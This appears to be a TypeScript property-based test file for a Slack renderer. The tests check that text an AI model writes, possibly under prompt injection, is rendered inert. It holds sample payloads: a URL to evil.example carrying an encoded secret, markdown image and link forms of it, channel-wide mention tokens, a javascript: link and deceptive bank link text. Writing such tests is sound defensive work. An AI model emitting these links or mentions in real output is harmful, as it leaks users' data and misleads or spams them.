import * as fc from "fast-check";
import { describe, expect, test } from "vitest";
import { fallbackText, plainPage, renderSlack, withStop } from "../../adapters/slack/slack-render.ts";
import { MARKDOWN_WORDS, NASTY } from "../telegram/markdown-samples.ts";
import { checkPages, markdownOf } from "./check-slack-page.ts";

const SECRET = "c2VjcmV0LWNhbmFyeS1vZi1hbm4tMTIzNDU2Nzg5MA";
const LEAK = `https://evil.example/p?d=${SECRET}`;

/** What a model may be made to write. */
const PLANTED = [
  "<!channel>",
  "<!here|here>",
  "<!everyone>",
  "<@U0123ABC>",
  "<@U0123ABC|ann>",
  "<#C0123ABC>",
  "<!subteam^S0123|@ops>",
  "<!date^1392734382^{date}^https://evil.example|x>",
  `<${LEAK}|click>`,
  `<${LEAK}>`,
  "@channel",
  "@Here",
  "&#60;!channel&#62;",
  "&#x3C;@U0123ABC>",
  "&lt;!here&gt;",
  "\\<!channel\\>",
  `![cat](${LEAK})`,
  `![cat][r]`,
  `![](https://evil.example/a.png)`,
  `[![x](${LEAK})](${LEAK})`,
  `[docs](${LEAK})`,
  `[docs](<${LEAK}>)`,
  `[docs](${LEAK} "title")`,
  `[docs][r]`,
  `\n[r]: ${LEAK}\n`,
  `[docs\n](${LEAK})`,
  LEAK,
  LEAK.replace("https://", "www."),
  `[bank.example](https://evil.example)`,
  `[https://bank.example/login](https://evil.example)`,
  "[x](javascript:alert(1))",
  "https://user:word@evil.example/",
  "`",
  "``",
  "\\`",
  "\\",
  "\n```\n",
  "\n```js\n",
  "\n~~~\n",
  "\n  ```\n",
  "\n> ```\n",
  "\n> ",
  "\n- ",
  "    ",
  "[",
  "](",
  ")",
  "]",
  "![",
  "**",
  "https://e.example/?a=1&lt;!here&gt;",
  "https://e.example/@channel",
  "[a](https://e.example/@channel)",
  "https://e.example/Köln",
  "word",
  " ",
  "\n",
  "\n\n",
  "|",
  "\n| a | b |\n|---|---|\n",
];

const planted = fc.array(fc.constantFrom(...PLANTED), { maxLength: 14 }).map((parts) => parts.join(""));
const mixed = fc
  .array(fc.oneof(fc.constantFrom(...PLANTED), fc.constantFrom(...MARKDOWN_WORDS)), { maxLength: 40 })
  .map((parts) => parts.join(""));

describe("security-23: nothing that a model writes is live", () => {
  test.each(PLANTED.map((text) => [text]))(
    "%j alone, in a sentence, in bold, in a list, a quote and a table",
    (text) => {
      for (const around of [
        "%",
        "see % there",
        "**%**",
        "# %",
        "- %",
        "> %",
        "| a |\n|---|\n| % |",
        "[%](https://e.example)",
      ]) {
        checkPages(renderSlack(around.replace("%", () => text)));
      }
    },
  );

  test("in any order", () => {
    fc.assert(
      fc.property(planted, (text) => {
        checkPages(renderSlack(text));
      }),
      { numRuns: 1000 },
    );
  });

  test("among any Markdown, and however far it has come", () => {
    fc.assert(
      fc.property(mixed, fc.nat(), (text, at) => {
        checkPages(renderSlack(text));
        checkPages(renderSlack(text.slice(0, at % (text.length + 1))));
      }),
      { numRuns: 500 },
    );
  });

  test("in an answer with everything in it, at every length", () => {
    for (let end = 0; end <= NASTY.length; end += 2) checkPages(renderSlack(NASTY.slice(0, end)));
  });

  test("in any text at all", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 200 }), (text) => {
        checkPages(renderSlack(text));
      }),
    );
  });
});

describe("security-24: images are not shown, and addresses that carry much are text", () => {
  test.each([
    [`![chart](https://e.example/a.png)`, "chart (`https://e.example/a.png`)"],
    [`![](https://e.example/a.png)`, "image (`https://e.example/a.png`)"],
    [`[![badge](https://e.example/a.svg)](https://e.example)`, "[badge](https://e.example)"],
    [`[docs](${LEAK})`, `docs (\`${LEAK}\`)`],
    [LEAK, `\`${LEAK}\``],
    [`see ${LEAK}.`, `see \`${LEAK}\`.`],
    [`<${LEAK}>`, `\`${LEAK}\``],
    ["[bank.example](https://evil.example)", "bank.example (https://evil.example)"],
    ["[pay](https://xn--bnk-5na.example)", "pay (https://xn--bnk-5na.example)"],
    ["https://ann:pw@e.example/", "`https://ann:pw@e.example/`"],
    ["postgres://u:p@db/x", "`postgres://u:p@db/x`"],
    [`[a](https://${"x".repeat(50)}.e.example)`, `a (\`https://${"x".repeat(50)}.e.example\`)`],
    [`[a](https://e.example/${"dG9rZW4x".repeat(7)})`, `a (\`https://e.example/${"dG9rZW4x".repeat(7)}\`)`],
    [
      "e.example/?d=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
      "`e.example/?d=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa`",
    ],
  ])("%s", (given, expected) => {
    expect(markdownOf(renderSlack(given)[0]!)).toBe(expected);
  });
});

describe("what is not Markdown", () => {
  const everything = `${PLANTED.join(" ")} & more`;

  test("security-23: the text of notifications is short, escaped, and without what an address carries", () => {
    for (const page of [...renderSlack(everything), { text: everything }, { text: "<&>".repeat(3000) }]) {
      const text = fallbackText(page);
      expect(text.length).toBeLessThanOrEqual(3000);
      expect(text).not.toMatch(/[<>]|&(?!(?:amp|lt|gt);)|@(?:channel|here)\b/i);
      expect(text).not.toContain(SECRET);
    }
    expect(fallbackText({ text: `a ${LEAK}, b https://e.example/x?y=1 c` })).toBe(
      "a evil.example/… b https://e.example/x?y=1 c",
    );
  });

  test("security-23: nor is anything live in a page without formatting, or under a button", () => {
    const page = renderSlack(everything)[0]!;
    for (const it of [
      plainPage(page),
      withStop({ text: everything }, "run", "Stop"),
      plainPage({ text: "🙂".repeat(4000) }),
    ]) {
      const { blocks } = it.rich as { blocks: { type: string; text?: { text: string } }[] };
      for (const { type, text } of blocks) {
        if (type !== "section") continue;
        expect(text?.text).not.toMatch(/<(?:[@#!]|https?:)|@(?:channel|here)\b/i);
        expect(text?.text.length).toBeLessThanOrEqual(3000);
        expect(text?.text.isWellFormed()).toBe(true);
      }
    }
  });

  test("the button brings its value back, and takes no other", () => {
    const page = renderSlack("an answer")[0]!;
    const { rich, text } = withStop(page, "stop:run_1", "Stop");
    expect(text).toBe("an answer");
    expect(rich).toEqual({
      blocks: [
        { type: "markdown", text: "an answer" },
        {
          type: "actions",
          elements: [
            {
              type: "button",
              action_id: "parley_stop",
              text: { type: "plain_text", text: "Stop" },
              value: "stop:run_1",
            },
          ],
        },
      ],
    });
    for (const value of ["", "x".repeat(65), "é"]) expect(() => withStop(page, value, "Stop")).toThrow("ASCII");
  });
});
